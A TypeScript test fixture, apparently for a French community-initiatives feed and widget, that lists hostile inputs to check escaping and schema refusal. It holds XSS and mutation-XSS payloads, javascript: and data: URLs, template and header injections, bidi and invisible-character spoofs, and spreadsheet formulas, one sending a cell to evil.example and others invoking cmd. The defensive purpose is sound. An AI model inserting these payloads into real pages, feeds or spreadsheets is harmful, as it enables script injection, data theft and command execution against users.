/**
 * What a text of a release or of a feed may hold to break out of where it is put: kinds, each in the surroundings that end the
 * one or the other place. The feed is text, so most are shown as they are; what no one can see, the schema refuses.
 */

/** In each, `alert(1)` and `https://evil.example/` are what must not happen. */
const KINDS: Readonly<Record<string, readonly string[]>> = {
  tags: [
    '<script>alert(1)</script>',
    '<script src=https://evil.example/x.js></script>',
    '<img src=x onerror=alert(1)>',
    '<img src=https://evil.example/pixel.gif>',
    '<svg onload=alert(1)>',
    '<iframe src=https://evil.example/></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data=https://evil.example/x></object>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<style>*{background:url(https://evil.example/x)}</style>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href=https://evil.example/>',
    '<form action=https://evil.example/><input name=x><button>ok</button></form>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<input autofocus onfocus=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<a href="https://evil.example/">Facebook</a>',
    '<x-solidaire onclick=alert(1)>',
    '<solidaire-initiatives commune="62413" feed="https://evil.example/"></solidaire-initiatives>',
    '<plaintext>',
    '<template><script>alert(1)</script></template>',
  ],
  attributes: [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '` onmouseover=`alert(1)',
    '" style="position:fixed;inset:0" x="',
    '" autofocus onfocus=alert(1) x="',
    ' onload=alert(1) ',
    '"><svg/onload=alert(1)>',
    '/><script>alert(1)</script>',
    '" http-equiv="refresh" content="0;url=https://evil.example/',
  ],
  addresses: [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'javascript&colon;alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:msgbox(1)',
    'blob:https://evil.example/1',
    '//evil.example/',
    'view-source:https://evil.example/',
  ],
  mutation: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
    '<svg><desc><title><style><a title="</style></title></desc></svg><img src onerror=alert(1)>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
    '<a id=x name=y><a id=x name=documentElement>',
    '<img name=getElementById><form id=body><input name=attributes>',
    '<xmp><p title="</xmp><img src=1 onerror=alert(1)>">',
  ],
  ends: [
    '</title><script>alert(1)</script>',
    '</script><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '--><script>alert(1)</script>',
    '--!><script>alert(1)</script>',
    '<!--<script>',
    '<!--',
    '<![CDATA[',
    ']]><script>alert(1)</script>',
    ']]></content><entry><title>faux</title></entry>',
    '<?xml-stylesheet href="https://evil.example/x.css"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/">]>&e;',
    '</article></li></ul></main><h1>Autre</h1>',
    '</body></html>',
  ],
  templates: [
    '<!--?lit$123456789$-->',
    '<!--lit-part--><!--/lit-part-->',
    '<!--lit-part abc=--><b>gras</b><!--/lit-part-->',
    '<!--lit-node 0-->',
    'lit$123456789$',
    '<?lit$123456789$?>',
    '${alert(1)}',
    '{{7*7}}{{constructor.constructor("alert(1)")()}}',
    '<%= alert(1) %>',
    '#{7*7}',
    "$& $1 $` $' $$",
    '%s %d %n %00',
    '$PLACEHOLDER$ $1 $2',
  ],
  entities: [
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '&#x3C;svg onload=alert(1)&#x3E;',
    '&amp;lt;b&amp;gt;',
    '&nbsp;&shy;&zwj;',
    '&#0;&#x110000;&#xD800;',
    '&quot;&apos;&NewLine;&Tab;',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '＜script＞alert(1)＜/script＞',
  ],
  formulas: [
    '=HYPERLINK("https://evil.example/?x="&A1;"ouvrir")',
    "=cmd|'/C calc'!A0",
    "+33+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '＝1+1',
    ';=1+1;"x',
    '"";"=1+1"',
    ',=1+1,',
    '\n=1+1',
    '\t=1+1',
  ],
  lines: [
    'Set-Cookie: x=1\nLocation: https://evil.example/',
    '\n  Set-Cookie: x=1',
    '/*\n  X-Frame-Options: ALLOWALL',
    '/* https://evil.example/:splat 301',
    '; } location / { proxy_pass https://evil.example/; } #',
    '"; add_header Set-Cookie x=1; #',
    '${uri} $host $1',
    'BEGIN:VCARD\nEND:VCARD',
    '# titre\n\n> citation\n\n---\n\n| a | b |',
    '[lien](javascript:alert(1)) ![image](https://evil.example/x.png)',
    'solidaire-correction: e30=',
  ],
  prototypes: [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'null',
    'undefined',
    '[object Object]',
  ],
  scripts: [
    'раураӏ.com',
    'Fаcebook',
    'مرحبا بالعالم',
    'שלום עולם',
    '中文，日本語、한국어',
    '👩🏽 🇫🇷 🏴',
    `e${'\u0301'.repeat(20)}`,
    'ﬁﬂﬃ ǅ İı ẞß',
    '𝕃𝕖𝕤 𝕒𝕞𝕚𝕤',
    '\uFDFA'.repeat(10),
  ],
  long: [
    'mot '.repeat(2_000),
    'a'.repeat(20_000),
    '<b>'.repeat(5_000),
    '"'.repeat(5_000),
    "l'".repeat(5_000),
  ],
};

/** Around a text: what ends the place where it stands, and what such a text most often stands in. */
const SURROUNDINGS: readonly (readonly [before: string, after: string])[] = [
  ['', ''],
  ['Une aide ', ' est proposée.'],
  ['« ', ' »'],
  ['"', '"'],
  ["'", "'"],
  ['">', '<"'],
  ["'>", "<'"],
  ['-->', '<!--'],
  ['</p>', '<p>'],
  ['</title>', '<title>'],
  ['</script>', '<script>'],
  ['</style>', '<style>'],
  [']]>', '<![CDATA['],
  ['&lt;', '&gt;'],
  ['Premier paragraphe.\n\n', '\n\net un dernier paragraphe.'],
  ['{"x":"', '"}'],
];

/** What the schema refuses, wherever a text stands: it is not seen, or takes the whole page. */
export const REFUSED: Readonly<Record<string, string>> = {
  'text turned round': 'exe.\u202Efdp',
  'embedded direction': '\u202Aa\u202C',
  'isolated direction': '\u2066a\u2069',
  'direction mark': 'a\u200Fb',
  'Arabic letter mark': 'a\u061Cb',
  'zero width space': 'pay\u200Bpal',
  'zero width joiner': 'a\u200Db',
  'soft hyphen': 'pay\u00ADpal',
  'byte order mark': '\uFEFFtexte',
  'tag characters': 'drapeau\u{E0067}\u{E0062}\u{E007F}',
  'half a character, the first': 'a\uD83D',
  'half a character, the second': '\uDE00a',
  NUL: 'a\0b',
  bell: 'a\u0007b',
  escape: 'a\u001B[31mb',
  delete: 'a\u007Fb',
  'next line': 'a\u0085b',
  'carriage return': 'a\rb',
  'header break': 'x\r\nSet-Cookie: x=1',
  'line separator': 'a\u2028b',
  'paragraph separator': 'a\u2029b',
  'vertical tab': 'a\vb',
  'form feed': 'a\fb',
  zalgo: `Z${'\u0300\u0323'.repeat(20)}algo`,
  'many no-break spaces': `a${'\u00A0'.repeat(40)}b`,
  'a megabyte': 'a'.repeat(1_000_000),
  nothing: '',
};

export interface HostileKind {
  kind: string;
  texts: readonly string[];
}

const around = (text: string) => SURROUNDINGS.map(([before, after]) => before + text + after);

/** Of JSON: each text stands in some fifteen fields of an initiative, and a widget reads a megabyte. */
const MOST_LETTERS = 50_000;

/** In groups that no reader finds too long. */
function inGroups(texts: readonly string[]): string[][] {
  const groups: string[][] = [];
  let left = 0;
  for (const text of texts) {
    const { length } = JSON.stringify(text);
    if (length > left) {
      groups.push([]);
      left = MOST_LETTERS;
    }
    groups.at(-1)?.push(text);
    left -= length;
  }
  return groups;
}

/** Every text in all surroundings, by kind. */
export const hostileKinds: readonly HostileKind[] = Object.entries(KINDS).flatMap(([kind, texts]) =>
  inGroups(texts.flatMap(around)).map((group, index) => ({
    kind: index > 0 ? `${kind}, ${index + 1}` : kind,
    texts: group,
  })),
);

/** Each text once, each in other surroundings than its neighbour. */
export const someHostileTexts: readonly string[] = Object.values(KINDS)
  .flat()
  .map((text, index) => around(text)[index % SURROUNDINGS.length] ?? text);
